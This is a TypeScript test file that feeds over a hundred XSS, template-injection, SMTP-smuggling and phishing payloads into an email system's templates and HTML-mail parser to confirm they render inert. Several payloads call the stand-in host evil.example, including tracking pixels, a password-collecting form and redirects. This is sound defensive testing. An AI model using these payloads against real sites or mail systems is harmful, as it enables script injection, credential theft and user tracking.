/**
 * S24, S25: what strangers write is words in every mail of ours. Each trick goes as text into every free place of a mail, and as
 * an HTML part through parser and reader; the markup that goes out is the same as for a harmless word.
 */
import { beforeAll, describe, expect, test } from 'vitest'
import { parseMail } from '../src/adapters/mime/parse-mail.ts'
import { loadTemplates } from '../src/adapters/template/templates.ts'
import { MAIL_CATALOG, SAMPLE_CONTEXT } from '../src/app/mail-catalog.ts'
import type { Templates } from '../src/app/ports.ts'
import type { MailName } from '../src/domain/incident/mails.ts'
import { readReply } from '../src/domain/mail/reply/read-reply.ts'
import { contentsOf } from '../src/domain/say/contents.ts'
import { aReading } from './support/a-reading.ts'

const URL_ = 'https://evil.example/x'
const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onstart',
  'onpageshow',
  'onanimationstart',
]
const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'details',
  'marquee',
  'input',
  'iframe',
  'object',
  'embed',
  'link',
  'style',
  'meta',
  'base',
  'form',
  'button',
  'math',
  'template',
  'noscript',
  'isindex',
  'frameset',
  'table',
  'a',
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml;base64,',
  'file:///etc/',
  '//evil.example/',
  'livescript:',
  'mhtml:',
  'feed:javascript:',
  'view-source:',
]

const TRICKS: readonly string[] = [
  ...EVENTS.map((event) => `<svg ${event}=alert(1)>`),
  ...EVENTS.map((event) => `" ${event}="alert(1)`),
  ...EVENTS.map((event) => `' ${event}='alert(1)' x='`),
  ...TAGS.map(
    (tag) => `<${tag} src="${URL_}" href="${URL_}" background="${URL_}" style="background:url(${URL_})">x</${tag}>`,
  ),
  ...TAGS.map((tag) => `<${tag}/onload=alert(1)//`),
  ...SCHEMES.map((scheme) => `<a href="${scheme}alert(1)">x</a>`),
  ...SCHEMES.map((scheme) => `${scheme}alert(1)`),
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script\u0000>alert(1)</script>',
  '\u003cscript\u003ealert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x&amp;gt;',
  '＜script＞alert(1)＜/script＞',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--[if mso]><img src="https://evil.example/x"><![endif]-->',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x>',
  '</style><img src=x>',
  '</td></tr></table></div></body></html><img src=x>',
  '--><img src=x>',
  ']]><img src=x>',
  '{{{evil}}} {{#if x}} {{constructor.constructor "return process"}}',
  '$' + '{alert(1)} <%= 1 %> #{7*7}',
  '[x](javascript:alert(1)) ![x](https://evil.example/p.png)',
  '<https://evil.example/x> <javascript:alert(1)>',
  'x\r\n\r\n<img src=x>\r\n.\r\nMAIL FROM:<a@b>',
  '=3Cscript=3E +ADw-script+AD4-',
  '\u202e<img src=x>\u202c',
  '<im\u200bg src=x>',
  '<img src="cid:logo"><img src="https://evil.example/pixel.gif" width=1 height=1>',
  '@import url(https://evil.example/x.css);',
  'expression(alert(1)) -moz-binding:url(x) behavior:url(#default#VML)',
  '<style>@font-face{src:url(https://evil.example/f)} *{background:url(https://evil.example/b)}</style>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<a href="https://bank.example" title="x">https://bank.example.evil.example</a>',
  '<base href="https://evil.example/"><a href=x>y</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password>',
  '<v:roundrect href="javascript:alert(1)"/>',
  '<?xml version="1.0"?><?import namespace="t" implementation="#default#time2">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '\\"><img src=x>',
  '`><img src=x>',
  '%3Cimg%20src=x%3E',
]

const MAILS = [
  'notification',
  'relay',
  'status',
  'digest',
  'handover',
  'list',
  'command-error',
  'receipt',
  'was-this-you',
  'acknowledgement',
  'held-answer',
  'history',
  'explain',
  'found',
  'lines-receipt',
  'offer',
  'assigned',
  'help',
] as const satisfies readonly MailName[]

let templates: Templates
beforeAll(async () => {
  templates = await loadTemplates(new URL('../templates/', import.meta.url).pathname, { tried: true })
})

/** Tags with their attributes, in order, without what lines and paragraphs are made of. */
function markup(html: string): readonly string[] {
  // The subject is also what a screen reader announces: an attribute, and escaped like one.
  return (html.replace(/ ?aria-label="[^"<>]*"/g, '').match(/<[^>]*>?/g) ?? []).filter(
    (tag) => !/^<\/?(?:p|br)\b/.test(tag),
  )
}

/** The value with every free text in it replaced. */
function filled<T>(value: T, text: string): T {
  if (typeof value === 'string') return (/^[a-z_-]*$|^mailto:|^\d{4}-/.test(value) ? value : text) as T
  if (Array.isArray(value)) return value.map((each) => filled(each, text)) as T
  if (value && typeof value === 'object')
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, filled(each, text)])) as T
  return value
}

function render(name: MailName, text: string): string {
  return templates.render(name, 'en', filled(MAIL_CATALOG[name].sample, text) as never, SAMPLE_CONTEXT).html
}

test('more than a hundred tricks', () => expect(new Set(TRICKS).size).toBeGreaterThan(100))

describe.each(MAILS)('%s', (name) => {
  test('has the markup of a harmless word, whatever is written', () => {
    const harmless = markup(render(name, 'word'))
    for (const trick of TRICKS) expect(markup(render(name, trick)), trick).toEqual(harmless)
  })
})

test('the HTML of a mail becomes words before anything is said', async () => {
  const show = async (html: string) => {
    const raw = `From: Eva <eva@example.net>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>word</p>${html}<p>word</p></body></html>\r\n`
    const content = Buffer.from(raw)
    const mail = await parseMail({ content, truncated: false, size: content.length, arrivedAt: Date.UTC(2026, 10, 2) })
    const reply = readReply(mail)
    const reading = { ...aReading(), mail, reply }
    const sample = MAIL_CATALOG.notification.sample
    const shown = templates.render(
      'notification',
      'en',
      { ...sample, ...contentsOf(reading), text: reply.newText, rest: sample.rest },
      SAMPLE_CONTEXT,
    )
    const relayed = templates.render(
      'relay',
      'en',
      { ...MAIL_CATALOG.relay.sample, text: reply.newText },
      SAMPLE_CONTEXT,
    )
    return { tags: [markup(shown.html), markup(relayed.html)], html: `${shown.html}${relayed.html}` }
  }
  const harmless = await show('<p>word</p>')
  for (const trick of TRICKS) {
    const { tags, html } = await show(trick)
    expect(tags, trick).toEqual(harmless.tags)
    expect(html, trick).not.toMatch(/<[^>]*(?:evil\.example|javascript:|\bon[a-z]+=)/i)
  }
})
